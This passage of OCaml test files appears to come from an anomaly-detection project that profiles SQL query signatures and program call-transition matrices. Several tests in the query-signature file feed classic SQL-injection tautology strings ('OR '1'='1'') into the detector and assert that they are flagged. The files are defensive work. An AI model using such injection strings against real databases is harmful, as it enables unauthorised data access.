      List.iter
        (fun p ->
          let ic = open_in p in
          (try
             while true do
               let line = input_line ic in
               if not (contains ~needle:"rotation filler line" line) then
                 Alcotest.failf "torn line in %s: %s" p line
             done
           with End_of_file -> ());
          close_in ic)
        [ path; path ^ ".1" ])

(* --- cluster Chrome trace merge ----------------------------------------------- *)

let mk_span ?(attrs = []) name start_ns =
  {
    Trace.name;
    trace_id = 7;
    span_id = 8;
    parent = None;
    domain = 0;
    start_ns;
    dur_ns = 10_000L;
    attrs;
  }

let test_chrome_cluster_merge () =
  (* the node's clock runs 1ms ahead (offset = local - reference), so
     its 3ms span aligns exactly onto the router's 2ms span *)
  let groups =
    [
      ("router", 0L, [ mk_span "route.batch" 2_000_000L ]);
      ("alpha", 1_000_000L, [ mk_span "wire.batch" 3_000_000L ]);
    ]
  in
  let json = Trace.to_chrome_json_cluster groups in
  Alcotest.(check int) "one process_name metadata event per group" 2
    (count ~needle:"\"process_name\"" json);
  Alcotest.(check bool) "groups are distinct pids" true
    (contains ~needle:"\"pid\":1" json && contains ~needle:"\"pid\":2" json);
  Alcotest.(check bool) "names survive" true
    (contains ~needle:"\"router\"" json && contains ~needle:"\"alpha\"" json);
  Alcotest.(check int) "offset-aligned spans share the epoch" 2
    (count ~needle:"\"ts\":0.000" json);
  (* no groups at all still renders a valid (empty) trace *)
  Alcotest.(check bool) "empty merge renders" true
    (contains ~needle:"traceEvents" (Trace.to_chrome_json_cluster []))

let () =
  Alcotest.run "ops"
    [
      ( "http",
        [ Alcotest.test_case "exposition endpoints" `Quick test_http_endpoints ] );
      ( "rollup",
        [ QCheck_alcotest.to_alcotest prop_rollup_equals_fold ] );
      ( "skew",
        [
          Alcotest.test_case "new router, old node, verdicts pinned" `Quick
            test_version_skew;
        ] );
      ( "log",
        [ Alcotest.test_case "file sink rotation" `Quick test_log_rotation ] );
      ( "trace",
        [
          Alcotest.test_case "cluster merge aligns clocks" `Quick
            test_chrome_cluster_merge;
        ] );
    ]

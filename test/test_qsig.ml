(* The query-signature axis: canonical signatures, per-slot constraint
   learning, predicate widening, the compiled engine and its streaming
   scorer, and the service-layer fusion. The QCheck2 properties pin the
   contracts the other layers build on: signature invariance under
   literal substitution, print/parse round-trips, streaming == batch,
   and policy monotonicity (flexible anomalies are a subset of strict
   ones — the daemon's warn-vs-enforce ordering). *)

module Signature = Adprom_qsig.Signature
module Constraints = Adprom_qsig.Constraints
module Profile = Adprom_qsig.Profile
module Engine = Adprom_qsig.Engine
module Service = Adprom_service

(* --- generators -------------------------------------------------------- *)

(* Literal vectors feeding the SQL templates. Strings are quoted
   alphanumerics so the only structural variation is the value. *)
type lit = I of int | S of string

let lit_to_sql = function
  | I n -> string_of_int n
  | S s -> Printf.sprintf "'%s'" s

let gen_lit =
  QCheck2.Gen.(
    oneof
      [
        (* the dialect has no unary minus: literals are non-negative *)
        map (fun n -> I n) (int_range 0 10000);
        map (fun n -> S (Printf.sprintf "v%d" (abs n))) (int_range 0 100000);
      ])

(* Each template renders a fixed structure around its literal slots, so
   two renderings differ only in constants. *)
let templates =
  [|
    (1, fun l -> Printf.sprintf "SELECT a, b FROM t WHERE a = %s" l.(0));
    ( 2,
      fun l ->
        Printf.sprintf "SELECT a FROM t WHERE a = %s AND b > %s" l.(0) l.(1) );
    ( 3,
      fun l ->
        Printf.sprintf "INSERT INTO t (a, b, c) VALUES (%s, %s, %s)" l.(0)
          l.(1) l.(2) );
    (2, fun l -> Printf.sprintf "UPDATE t SET a = %s WHERE b = %s" l.(0) l.(1));
    (1, fun l -> Printf.sprintf "DELETE FROM t WHERE a = %s" l.(0));
    ( 2,
      fun l ->
        Printf.sprintf "SELECT a FROM t WHERE a IN (%s, %s)" l.(0) l.(1) );
    ( 2,
      fun l ->
        Printf.sprintf "SELECT b FROM t WHERE b = %s ORDER BY b LIMIT %s" l.(0)
          (match l.(1) with _ -> "7") );
  |]

let gen_template = QCheck2.Gen.int_range 0 (Array.length templates - 1)

let render idx lits =
  (snd templates.(idx)) (Array.map lit_to_sql (Array.of_list lits))

let gen_lits idx = QCheck2.Gen.list_repeat (fst templates.(idx)) gen_lit

let sig_of_exn sql =
  match Signature.of_sql sql with
  | Ok s -> Signature.to_string s
  | Error e -> Alcotest.failf "unparseable %S: %s" sql e

(* --- signature canonicalization ---------------------------------------- *)

let test_signature_case_whitespace () =
  let s1 = sig_of_exn "SELECT a, b FROM t WHERE a = 1" in
  let s2 = sig_of_exn "select   a,b from t\n where a=2" in
  Alcotest.(check string) "case and whitespace erased" s1 s2

let test_signature_in_arity_classes () =
  let one = sig_of_exn "SELECT a FROM t WHERE a IN (1)" in
  let few = sig_of_exn "SELECT a FROM t WHERE a IN (1, 2, 3)" in
  let few' = sig_of_exn "SELECT a FROM t WHERE a IN (9, 8, 7, 6, 5, 4, 3, 2)" in
  let many =
    sig_of_exn "SELECT a FROM t WHERE a IN (1,2,3,4,5,6,7,8,9)"
  in
  Alcotest.(check string) "2..8 members share the few class" few few';
  Alcotest.(check bool) "1 vs few differ" true (one <> few);
  Alcotest.(check bool) "few vs many differ" true (few <> many)

let test_signature_multirow_insert () =
  let one = sig_of_exn "INSERT INTO t (a) VALUES (1)" in
  let few = sig_of_exn "INSERT INTO t (a) VALUES (1), (2)" in
  let few' = sig_of_exn "INSERT INTO t (a) VALUES (5), (6), (7)" in
  Alcotest.(check string) "multi-tuple arity class" few few';
  Alcotest.(check bool) "single vs multi differ" true (one <> few)

let prop_signature_literal_invariance =
  QCheck2.Test.make ~name:"signature invariant under literal substitution"
    ~count:200
    QCheck2.Gen.(
      gen_template >>= fun idx ->
      pair (pair (pure idx) (gen_lits idx)) (gen_lits idx))
    (fun ((idx, lits1), lits2) ->
      sig_of_exn (render idx lits1) = sig_of_exn (render idx lits2))

let prop_print_parse_roundtrip =
  QCheck2.Test.make ~name:"pretty-print/parse round-trip is a fixpoint"
    ~count:200
    QCheck2.Gen.(gen_template >>= fun idx -> pair (pure idx) (gen_lits idx))
    (fun (idx, lits) ->
      let sql = render idx lits in
      let printed = Sqldb.Sql_pp.to_string (Sqldb.Sql_parser.parse sql) in
      let reprinted = Sqldb.Sql_pp.to_string (Sqldb.Sql_parser.parse printed) in
      printed = reprinted && sig_of_exn printed = sig_of_exn sql)

(* --- predicate widening ------------------------------------------------ *)

let test_widening_tautology () =
  let w sql = Signature.widening_warnings (Sqldb.Sql_parser.parse sql) in
  Alcotest.(check bool)
    "OR '1'='1' is a tautology" true
    (List.mem Signature.Tautology
       (w "SELECT a FROM t WHERE a = '1' OR '1' = '1'"));
  Alcotest.(check bool)
    "honest predicate is quiet" true
    (w "SELECT a FROM t WHERE a = 1 AND b > 2" = []);
  Alcotest.(check bool)
    "constant comparison reported" true
    (List.mem Signature.Constant_comparison
       (w "SELECT a FROM t WHERE a = 1 AND 2 = 2"))

(* --- constraints ------------------------------------------------------- *)

let test_constraint_int_policies () =
  let c =
    List.fold_left Constraints.observe Constraints.bot
      [ Signature.V_int 10; Signature.V_int 20 ]
  in
  Alcotest.(check bool)
    "strict accepts trained value" true
    (Constraints.check Constraints.Strict c (Signature.V_int 10) = None);
  Alcotest.(check bool)
    "strict rejects untrained value" true
    (Constraints.check Constraints.Strict c (Signature.V_int 15) <> None);
  Alcotest.(check bool)
    "flexible accepts near the range" true
    (Constraints.check Constraints.Flexible c (Signature.V_int 25) = None);
  Alcotest.(check bool)
    "flexible rejects far out of band" true
    (Constraints.check Constraints.Flexible c (Signature.V_int 1000) <> None);
  Alcotest.(check bool)
    "type flip is a violation" true
    (Constraints.check Constraints.Flexible c (Signature.V_str "x") <> None)

let test_constraint_band_policies () =
  let band =
    List.fold_left Constraints.band_observe Constraints.band_empty [ 1; 3 ]
  in
  Alcotest.(check bool)
    "strict flags above the band" true
    (Constraints.band_check Constraints.Strict band 4 <> None);
  Alcotest.(check bool)
    "flexible tolerates a moderate excess" true
    (Constraints.band_check Constraints.Flexible band 4 = None);
  Alcotest.(check bool)
    "flexible flags a blowup" true
    (Constraints.band_check Constraints.Flexible band 1000 <> None);
  Alcotest.(check bool)
    "empty band never flags" true
    (Constraints.band_check Constraints.Strict Constraints.band_empty 1000 = None)

let prop_policy_monotone_on_slots =
  (* flexible violations are a subset of strict ones, value by value *)
  QCheck2.Test.make ~name:"flexible slot violations subset of strict" ~count:300
    QCheck2.Gen.(pair (list_size (int_range 1 6) gen_lit) gen_lit)
    (fun (training, probe) ->
      let to_v = function I n -> Signature.V_int n | S s -> Signature.V_str s in
      let c =
        List.fold_left Constraints.observe Constraints.bot
          (List.map to_v training)
      in
      match Constraints.check Constraints.Flexible c (to_v probe) with
      | None -> true
      | Some _ -> Constraints.check Constraints.Strict c (to_v probe) <> None)

(* --- profile ----------------------------------------------------------- *)

let training_log =
  [
    ("SELECT a, b FROM t WHERE a = 1", 1);
    ("SELECT a, b FROM t WHERE a = 2", 1);
    ("SELECT a, b FROM t WHERE a = 3", 0);
    ("INSERT INTO t (a, b, c) VALUES (4, 'x', 5)", 1);
    ("INSERT INTO t (a, b, c) VALUES (5, 'y', 6)", 1);
  ]

let test_profile_save_load_roundtrip () =
  let p = Profile.of_logs [ training_log ] in
  Profile.learn p "NOT SQL AT ALL";
  let lines = Profile.save_lines p in
  match Profile.load_lines (String.split_on_char '\n' lines) with
  | Error e -> Alcotest.failf "load_lines: %s" e
  | Ok p' ->
      Alcotest.(check (list string))
        "signatures survive" (Profile.signatures p) (Profile.signatures p');
      Alcotest.(check int)
        "malformed bucket survives" (Profile.malformed_count p)
        (Profile.malformed_count p');
      Alcotest.(check string)
        "round-trip is a fixpoint" lines (Profile.save_lines p')

let test_profile_copy_isolated () =
  let p = Profile.of_logs [ training_log ] in
  let q = Profile.copy p in
  Profile.learn q "DELETE FROM other WHERE z = 9";
  Alcotest.(check bool)
    "copy learns independently" true
    (Profile.cardinality q = Profile.cardinality p + 1)

(* --- engine + streaming scorer ----------------------------------------- *)

let gen_query =
  QCheck2.Gen.(
    oneof
      [
        (* in-profile traffic *)
        map
          (fun n -> (Printf.sprintf "SELECT a, b FROM t WHERE a = %d" (1 + (abs n mod 3)), abs n mod 2))
          (int_range 0 1000);
        (* out-of-band literals *)
        map
          (fun n -> (Printf.sprintf "SELECT a, b FROM t WHERE a = %d" (100000 + abs n), 1))
          (int_range 0 1000);
        (* unknown signatures and tautologies *)
        pure ("SELECT a, b FROM t WHERE a = 1 OR '1' = '1'", 50);
        pure ("SELECT secret FROM vault", 3);
        (* unparseable *)
        pure ("NOT SQL", 0);
        (* cardinality blowups on a trained signature *)
        map
          (fun n -> (Printf.sprintf "SELECT a, b FROM t WHERE a = %d" (1 + (abs n mod 3)), 5000))
          (int_range 0 1000);
      ])

let gen_log = QCheck2.Gen.(list_size (int_range 0 30) gen_query)

let prop_streaming_equals_batch =
  QCheck2.Test.make ~name:"streaming scorer == batch check_log" ~count:100
    gen_log
    (fun log ->
      let p = Profile.of_logs [ training_log ] in
      let e1 = Engine.create ~policy:Constraints.Strict p in
      let e2 = Engine.create ~policy:Constraints.Strict p in
      let batch = Engine.check_log e1 log in
      let sc = Engine.Scorer.create e2 in
      let streamed = List.map (fun (sql, rows) -> Engine.Scorer.push sc ~rows sql) log in
      batch = streamed
      && Engine.Scorer.queries_seen sc = List.length log
      && Engine.Scorer.anomalies sc
         = List.length (List.filter (fun v -> v.Engine.anomalous) streamed))

let prop_enforce_superset_of_warn =
  (* the daemon maps warn -> Flexible and enforce -> Strict; a query
     anomalous under warn must stay anomalous under enforce *)
  QCheck2.Test.make ~name:"strict anomalies superset of flexible" ~count:100
    gen_log
    (fun log ->
      let p = Profile.of_logs [ training_log ] in
      let strict = Engine.create ~policy:Constraints.Strict p in
      let flex = Engine.create ~policy:Constraints.Flexible p in
      List.for_all2
        (fun (vs : Engine.verdict) (vf : Engine.verdict) ->
          (not vf.Engine.anomalous) || vs.Engine.anomalous)
        (Engine.check_log strict log) (Engine.check_log flex log))

let test_engine_reasons () =
  let p = Profile.of_logs [ training_log ] in
  let e = Engine.create ~policy:Constraints.Strict p in
  let v = Engine.check e "SELECT a, b FROM t WHERE a = 1 OR '1' = '1'" in
  Alcotest.(check bool) "tautology flagged" true v.Engine.anomalous;
  Alcotest.(check bool)
    "tautology named" true
    (List.mem Engine.Tautology v.Engine.reasons);
  let v = Engine.check ~rows:4000 e "SELECT a, b FROM t WHERE a = 2" in
  Alcotest.(check bool)
    "cardinality blowup flagged" true
    (List.exists
       (function Engine.Cardinality_blowup _ -> true | _ -> false)
       v.Engine.reasons);
  let v = Engine.check e "SELECT a, b FROM t WHERE a = 2" in
  Alcotest.(check bool) "trained query is normal" true (not v.Engine.anomalous);
  Alcotest.(check bool)
    "memo warms up" true
    (Engine.memo_hits e > 0 || Engine.memo_misses e > 0)

(* --- service fusion ---------------------------------------------------- *)

let mk_event ~caller name =
  { Runtime.Collector.symbol = Analysis.Symbol.lib name; caller; block = 0 }

let test_codec_mixed_roundtrip () =
  let items =
    [|
      Service.Codec.Call { Service.Codec.session = 1; event = mk_event ~caller:"main" "read" };
      Service.Codec.Query
        { Service.Codec.q_session = 1; rows = 3; sql = "SELECT a FROM t WHERE a = 1" };
      Service.Codec.Call { Service.Codec.session = 2; event = mk_event ~caller:"main" "printf" };
    |]
  in
  let text = Service.Codec.encode_items items in
  (match Service.Codec.decode_mixed text with
  | Error e -> Alcotest.failf "decode_mixed: %s" e
  | Ok items' ->
      Alcotest.(check bool) "mixed round-trip" true (items = items'));
  match Service.Codec.decode text with
  | Error e -> Alcotest.failf "decode skips query lines: %s" e
  | Ok events -> Alcotest.(check int) "plain decode sees only calls" 2 (Array.length events)

let fused_app () = Dataset.Ca_banking.app ()

let test_daemon_query_axis () =
  let app = fused_app () in
  let dataset = Adprom.Pipeline.collect app in
  let profile = Adprom.Pipeline.train dataset in
  let qprofile = Adprom.Qsig.profile (Adprom.Pipeline.train_qsig app) in
  let events =
    Array.init 6 (fun i ->
        Service.Codec.Call
          { Service.Codec.session = 7; event = mk_event ~caller:"main" (Printf.sprintf "sym%d" i) })
  in
  let items =
    Array.append events
      [|
        Service.Codec.Query
          {
            Service.Codec.q_session = 7;
            rows = 4000;
            sql = "SELECT id, name, balance FROM clients WHERE id = '1' OR '1' = '1'";
          };
        Service.Codec.Query
          { Service.Codec.q_session = 9; rows = 1; sql = "SELECT balance FROM clients WHERE id = 105" };
      |]
  in
  let outcome =
    Service.Replay.run_items ~shards:2 ~qsig_mode:Service.Daemon.Qsig_warn
      ~qsig_profile:qprofile profile items
  in
  let report s =
    List.find
      (fun (r : Service.Daemon.session_report) -> r.Service.Daemon.session = s)
      outcome.Service.Replay.summary.Service.Daemon.sessions
  in
  Alcotest.(check int) "session 7 checked one query" 1 (report 7).Service.Daemon.qsig_checks;
  Alcotest.(check int) "session 7 query anomalous" 1 (report 7).Service.Daemon.qsig_anomalies;
  Alcotest.(check int) "query-only session reported" 1 (report 9).Service.Daemon.qsig_checks;
  Alcotest.(check int) "normal query stays quiet" 0 (report 9).Service.Daemon.qsig_anomalies;
  Alcotest.(check bool)
    "query incident recorded with the query axis" true
    (List.exists
       (fun (i : Service.Alerts.incident) ->
         i.Service.Alerts.session = 7
         && Service.Alerts.axis_of_source i.Service.Alerts.source
            = Service.Alerts.Query_axis)
       (Service.Alerts.incidents outcome.Service.Replay.alerts));
  Alcotest.(check bool)
    "fused axes name the query side" true
    (Service.Alerts.fused_axes outcome.Service.Replay.alerts ~session:7
     <> Service.Alerts.No_alarm)

let test_qsig_off_bit_for_bit () =
  (* the acceptance gate: with the axis off, a mixed stream yields
     byte-identical session reports to the stripped event stream *)
  let app = fused_app () in
  let dataset = Adprom.Pipeline.collect app in
  let profile = Adprom.Pipeline.train dataset in
  let analysis = dataset.Adprom.Pipeline.analysis in
  let traces =
    List.filteri (fun i _ -> i < 3) app.Adprom.Pipeline.test_cases
    |> List.map (fun tc -> fst (Adprom.Pipeline.run_case ~analysis app tc))
  in
  let rng = Mlkit.Rng.create 5 in
  let stream = Adprom.Sessions.interleave ~rng traces in
  let qlines =
    "q\t0\t4000\tSELECT id, name, balance FROM clients WHERE id = '1' OR '1' = '1'\n"
  in
  let mixed_text = Service.Codec.encode stream ^ qlines in
  let pure = Service.Replay.run ~shards:2 profile stream in
  match Service.Replay.of_text ~shards:2 profile mixed_text with
  | Error e -> Alcotest.failf "of_text: %s" e
  | Ok off ->
      Alcotest.(check bool)
        "session reports identical with qsig off" true
        (off.Service.Replay.summary.Service.Daemon.sessions
        = pure.Service.Replay.summary.Service.Daemon.sessions);
      Alcotest.(check int)
        "no incidents from the ignored query line"
        (Service.Alerts.count pure.Service.Replay.alerts)
        (Service.Alerts.count off.Service.Replay.alerts)

let () =
  Alcotest.run "qsig"
    [
      ( "signature",
        [
          Alcotest.test_case "case/whitespace" `Quick test_signature_case_whitespace;
          Alcotest.test_case "IN arity classes" `Quick test_signature_in_arity_classes;
          Alcotest.test_case "multi-row INSERT" `Quick test_signature_multirow_insert;
          QCheck_alcotest.to_alcotest prop_signature_literal_invariance;
          QCheck_alcotest.to_alcotest prop_print_parse_roundtrip;
        ] );
      ( "widening",
        [ Alcotest.test_case "tautology and constants" `Quick test_widening_tautology ] );
      ( "constraints",
        [
          Alcotest.test_case "int policies" `Quick test_constraint_int_policies;
          Alcotest.test_case "band policies" `Quick test_constraint_band_policies;
          QCheck_alcotest.to_alcotest prop_policy_monotone_on_slots;
        ] );
      ( "profile",
        [
          Alcotest.test_case "save/load round-trip" `Quick test_profile_save_load_roundtrip;
          Alcotest.test_case "copy isolation" `Quick test_profile_copy_isolated;
        ] );
      ( "engine",
        [
          Alcotest.test_case "reasons" `Quick test_engine_reasons;
          QCheck_alcotest.to_alcotest prop_streaming_equals_batch;
          QCheck_alcotest.to_alcotest prop_enforce_superset_of_warn;
        ] );
      ( "service",
        [
          Alcotest.test_case "codec mixed round-trip" `Quick test_codec_mixed_roundtrip;
          Alcotest.test_case "daemon query axis" `Quick test_daemon_query_axis;
          Alcotest.test_case "qsig off is bit-for-bit" `Quick test_qsig_off_bit_for_bit;
        ] );
    ]

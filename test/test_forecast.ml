(* Golden reproduction of Tables I and II: the probability forecast on
   the (reconstructed) two-function program of Fig. 3 of the paper, plus
   the aggregation into the pCTM and its invariants. *)

module Ast = Applang.Ast
module Parser = Applang.Parser
module Symbol = Analysis.Symbol
module Cfg = Analysis.Cfg
module Ctm = Analysis.Ctm

(* Reconstruction of Fig. 3: main() branches to printf' or printf''; the
   printf'' branch may run PQexec and then f(); f() branches between a
   plain printf, a DB-output printf (labeled printf_Q), and no call. *)
let fig3_source =
  {|
fun main() {
  if (x > 0) {
    printf("one");
  } else {
    printf("two");
    if (y > 0) {
      let r = pq_exec(conn, "SELECT * FROM items");
      f(r);
    }
  }
}

fun f(r) {
  if (a > 0) {
    printf("plain");
  } else {
    if (b > 0) {
      printf("%s", r);
    }
  }
}
|}

let analysis = lazy (Analysis.Analyzer.analyze (Parser.parse_program fig3_source))

let ctm_of name =
  let a = Lazy.force analysis in
  List.assoc name a.Analysis.Analyzer.ctms

(* Site symbols found by bare call name within a function's CTM. *)
let sites_named ctm name =
  List.filter
    (fun s ->
      match s with
      | Symbol.Lib { name = n; _ } -> n = name
      | Symbol.Entry | Symbol.Exit | Symbol.Func _ -> false)
    (Ctm.calls ctm)

let check_value ctm what a b expected =
  Alcotest.(check (float 1e-9)) what expected (Ctm.get ctm a b)

let test_table1 () =
  let m = ctm_of "main" in
  let printfs = sites_named m "printf" in
  Alcotest.(check int) "two printf sites in main" 2 (List.length printfs);
  let printf', printf'' =
    match printfs with [ a; b ] -> (a, b) | _ -> assert false
  in
  let pqexec = match sites_named m "pq_exec" with [ s ] -> s | _ -> assert false in
  let f = Symbol.Func "f" in
  check_value m "eps -> printf'" Symbol.Entry printf' 0.5;
  check_value m "eps -> printf''" Symbol.Entry printf'' 0.5;
  check_value m "printf' -> eps'" printf' Symbol.Exit 0.5;
  check_value m "printf'' -> eps'" printf'' Symbol.Exit 0.25;
  check_value m "printf'' -> pq_exec" printf'' pqexec 0.25;
  check_value m "pq_exec -> f()" pqexec f 0.25;
  check_value m "f() -> eps'" f Symbol.Exit 0.25;
  check_value m "eps -> pq_exec is 0 (printf'' intervenes)" Symbol.Entry pqexec 0.0;
  check_value m "eps -> eps'" Symbol.Entry Symbol.Exit 0.0

let test_table2 () =
  let fc = ctm_of "f" in
  let printfs = sites_named fc "printf" in
  Alcotest.(check int) "two printf sites in f" 2 (List.length printfs);
  let plain, labeled =
    match List.partition (fun s -> not (Symbol.is_labeled s)) printfs with
    | [ p ], [ q ] -> (p, q)
    | _ -> Alcotest.fail "expected one plain and one labeled printf in f"
  in
  check_value fc "eps -> eps'" Symbol.Entry Symbol.Exit 0.25;
  check_value fc "eps -> printf" Symbol.Entry plain 0.5;
  check_value fc "eps -> printf_Q" Symbol.Entry labeled 0.25;
  check_value fc "printf -> eps'" plain Symbol.Exit 0.5;
  check_value fc "printf_Q -> eps'" labeled Symbol.Exit 0.25

let test_labeling () =
  let a = Lazy.force analysis in
  Alcotest.(check int) "exactly one labeled block" 1
    (List.length a.Analysis.Analyzer.taint.Analysis.Taint.labeled_blocks)

let test_pctm_values () =
  let a = Lazy.force analysis in
  let p = a.Analysis.Analyzer.pctm in
  Alcotest.(check bool) "no Func symbols remain" true
    (List.for_all
       (fun s -> match s with Symbol.Func _ -> false | _ -> true)
       (Ctm.symbols p));
  let m = ctm_of "main" in
  let pqexec = match sites_named m "pq_exec" with [ s ] -> s | _ -> assert false in
  let fc = ctm_of "f" in
  let f_printfs = sites_named fc "printf" in
  let plain, labeled =
    match List.partition (fun s -> not (Symbol.is_labeled s)) f_printfs with
    | [ p ], [ q ] -> (p, q)
    | _ -> assert false
  in
  check_value p "pq_exec -> printf (inlined)" pqexec plain 0.125;
  check_value p "pq_exec -> printf_Q (inlined)" pqexec labeled 0.0625;
  check_value p "pq_exec -> eps' (pass-through)" pqexec Symbol.Exit 0.0625;
  check_value p "printf -> eps' (case 2)" plain Symbol.Exit 0.125;
  check_value p "printf_Q -> eps' (case 2)" labeled Symbol.Exit 0.0625

let test_pctm_invariants () =
  let a = Lazy.force analysis in
  let p = a.Analysis.Analyzer.pctm in
  Alcotest.(check (float 1e-9)) "entry row sums to 1" 1.0 (Ctm.row_sum p Symbol.Entry);
  Alcotest.(check (float 1e-9)) "exit column sums to 1" 1.0 (Ctm.column_sum p Symbol.Exit);
  Alcotest.(check bool) "flow conserved" true (Ctm.conserved p)

let test_reachability () =
  let a = Lazy.force analysis in
  let cfg = List.assoc "main" a.Analysis.Analyzer.cfgs in
  let reach = Analysis.Forecast.reachability cfg in
  Alcotest.(check (float 1e-9)) "entry reach" 1.0 (List.assoc cfg.Cfg.entry reach);
  Alcotest.(check (float 1e-9)) "exit reach" 1.0 (List.assoc cfg.Cfg.exit reach)

(* Property: for random structured programs, the pCTM invariants hold. *)
let random_program seed =
  let rng = Mlkit.Rng.create seed in
  let call_pool = [| "printf"; "puts"; "strlen"; "scanf"; "strcat"; "lib_a"; "lib_b" |] in
  let rec stmts depth budget =
    if budget <= 0 then []
    else
      let s =
        match Mlkit.Rng.int rng (if depth > 2 then 3 else 5) with
        | 0 -> Printf.sprintf "%s(\"x\");" (Mlkit.Rng.pick rng call_pool)
        | 1 -> "let v = 1;"
        | 2 -> Printf.sprintf "let w = %s(\"y\");" (Mlkit.Rng.pick rng call_pool)
        | 3 ->
            Printf.sprintf "if (v > %d) { %s } else { %s }" (Mlkit.Rng.int rng 5)
              (String.concat " " (stmts (depth + 1) (budget / 2)))
              (String.concat " " (stmts (depth + 1) (budget / 2)))
        | _ ->
            Printf.sprintf "while (v < %d) { %s v = v + 1; }" (Mlkit.Rng.int rng 5)
              (String.concat " " (stmts (depth + 1) (budget / 2)))
      in
      s :: stmts depth (budget - 1)
  in
  let body = "let v = 0;" :: stmts 0 6 in
  let helper = "fun helper() { " ^ String.concat " " (stmts 0 4) ^ " }" in
  let main =
    "fun main() { " ^ String.concat " " body ^ " helper(); helper(); }"
  in
  main ^ "\n" ^ helper

let prop_pctm_conserved =
  QCheck2.Test.make ~name:"pCTM invariants hold on random programs" ~count:60
    QCheck2.Gen.(int_range 0 10_000)
    (fun seed ->
      let src = random_program seed in
      let prog = Parser.parse_program src in
      let a = Analysis.Analyzer.analyze prog in
      Ctm.conserved a.Analysis.Analyzer.pctm)

(* --- Ctm unit tests ---------------------------------------------------- *)

let sym name site = Symbol.lib ~site name

let test_ctm_basic () =
  let ctm = Ctm.create () in
  let a = sym "a" 1 and b = sym "b" 2 in
  Ctm.add ctm a b 0.25;
  Ctm.add ctm a b 0.25;
  Alcotest.(check (float 1e-12)) "add accumulates" 0.5 (Ctm.get ctm a b);
  Ctm.set ctm a b 0.0;
  Alcotest.(check (float 1e-12)) "set to zero removes" 0.0 (Ctm.get ctm a b);
  Alcotest.(check int) "no symbols left" 0 (List.length (Ctm.symbols ctm))

let test_ctm_rows_columns () =
  let ctm = Ctm.create () in
  let a = sym "a" 1 and b = sym "b" 2 and c = sym "c" 3 in
  Ctm.add ctm Symbol.Entry a 1.0;
  Ctm.add ctm a b 0.6;
  Ctm.add ctm a c 0.4;
  Ctm.add ctm b Symbol.Exit 0.6;
  Ctm.add ctm c Symbol.Exit 0.4;
  Alcotest.(check (float 1e-12)) "row sum" 1.0 (Ctm.row_sum ctm a);
  Alcotest.(check (float 1e-12)) "column sum" 0.6 (Ctm.column_sum ctm b);
  Alcotest.(check int) "calls exclude entry/exit" 3 (List.length (Ctm.calls ctm));
  Alcotest.(check bool) "conserved" true (Ctm.conserved ctm)

let test_ctm_eliminate_symbol_preserves_flow () =
  let ctm = Ctm.create () in
  let a = sym "a" 1 and mid = sym "m" 2 and b = sym "b" 3 in
  Ctm.add ctm Symbol.Entry a 1.0;
  Ctm.add ctm a mid 1.0;
  Ctm.add ctm mid b 1.0;
  Ctm.add ctm b Symbol.Exit 1.0;
  Ctm.eliminate_symbol ctm mid;
  Alcotest.(check (float 1e-12)) "pass-through created" 1.0 (Ctm.get ctm a b);
  Alcotest.(check bool) "still conserved" true (Ctm.conserved ctm);
  Alcotest.(check bool) "symbol gone" true
    (not (List.exists (Symbol.equal mid) (Ctm.symbols ctm)))

let test_ctm_map_symbols_merges () =
  let ctm = Ctm.create () in
  (* Two sites of the same call: stripping sites must merge their mass. *)
  Ctm.add ctm (sym "printf" 1) Symbol.Exit 0.3;
  Ctm.add ctm (sym "printf" 2) Symbol.Exit 0.2;
  let merged = Ctm.map_symbols Symbol.observable ctm in
  Alcotest.(check (float 1e-12)) "mass merged" 0.5
    (Ctm.get merged (Symbol.lib "printf") Symbol.Exit);
  Alcotest.(check int) "one call left" 1 (List.length (Ctm.calls merged))

let test_ctm_to_dense () =
  let ctm = Ctm.create () in
  Ctm.add ctm Symbol.Entry (sym "a" 1) 1.0;
  Ctm.add ctm (sym "a" 1) Symbol.Exit 1.0;
  let syms, dense = Ctm.to_dense ctm in
  Alcotest.(check int) "three symbols" 3 (Array.length syms);
  let total = Array.fold_left (fun acc row -> Array.fold_left ( +. ) acc row) 0.0 dense in
  Alcotest.(check (float 1e-12)) "dense preserves mass" 2.0 total

(* Consecutive calls to the same function: the self-pair case of the
   aggregation (f(); f();) must keep the invariants. *)
let test_aggregate_self_pair () =
  let src =
    {|
      fun main() { helper(); helper(); puts("done"); }
      fun helper() { if (x > 0) { printf("h"); } }
    |}
  in
  let a = Analysis.Analyzer.analyze (Parser.parse_program src) in
  Alcotest.(check bool) "self-pair aggregation conserved" true
    (Ctm.conserved a.Analysis.Analyzer.pctm);
  (* printf -> printf must now exist: last call of one helper execution
     to the first call of the next. *)
  let p = a.Analysis.Analyzer.pctm in
  let printf_site =
    List.find
      (fun s -> match s with Symbol.Lib { name = "printf"; _ } -> true | _ -> false)
      (Ctm.calls p)
  in
  Alcotest.(check bool) "printf chains across executions" true
    (Ctm.get p printf_site printf_site > 0.0)

let test_aggregate_recursion () =
  let src =
    {|
      fun main() { walk(3); }
      fun walk(n) { printf("%d", n); if (n > 0) { walk(n - 1); } }
    |}
  in
  let a = Analysis.Analyzer.analyze (Parser.parse_program src) in
  Alcotest.(check bool) "recursive program aggregates conservatively" true
    (Ctm.conserved a.Analysis.Analyzer.pctm);
  Alcotest.(check bool) "no Func symbols remain" true
    (List.for_all
       (fun s -> match s with Symbol.Func _ -> false | _ -> true)
       (Ctm.symbols a.Analysis.Analyzer.pctm))

(* Regression for the branch-feasibility prepass: a constantly-false
   branch is pruned before the forecast, so the dead arm's call never
   enters the pCTM, its node disappears from the pruned graph's
   reachability, and the sharpened pCTM still conserves flow. *)
let test_pruned_branch_excluded () =
  let src =
    {|
      fun main() {
        let flag = 0;
        lib_a("x");
        if (flag == 1) { secret("s"); }
        lib_b("y");
      }
    |}
  in
  let a = Analysis.Analyzer.analyze (Parser.parse_program src) in
  let p = a.Analysis.Analyzer.pctm in
  let call_names =
    List.sort_uniq compare (List.map Symbol.name (Ctm.calls p))
  in
  Alcotest.(check (list string))
    "pCTM excludes the dead arm's call" [ "lib_a"; "lib_b" ] call_names;
  Alcotest.(check bool) "sharpened pCTM still conserved" true (Ctm.conserved p);
  Alcotest.(check bool)
    "the prepass reports removed edges" true
    (Analysis.Prune.total_removed a.Analysis.Analyzer.pruning > 0);
  (* The dead arm had positive reach in the original graph; in the
     pruned graph its node is gone and the exit still has reach 1. *)
  let orig = List.assoc "main" a.Analysis.Analyzer.cfgs in
  let pruned = List.assoc "main" a.Analysis.Analyzer.pruned_cfgs in
  let dead =
    List.filter
      (fun id -> not (List.mem id (Cfg.node_ids pruned)))
      (Cfg.node_ids orig)
  in
  Alcotest.(check bool) "a node was dropped" true (dead <> []);
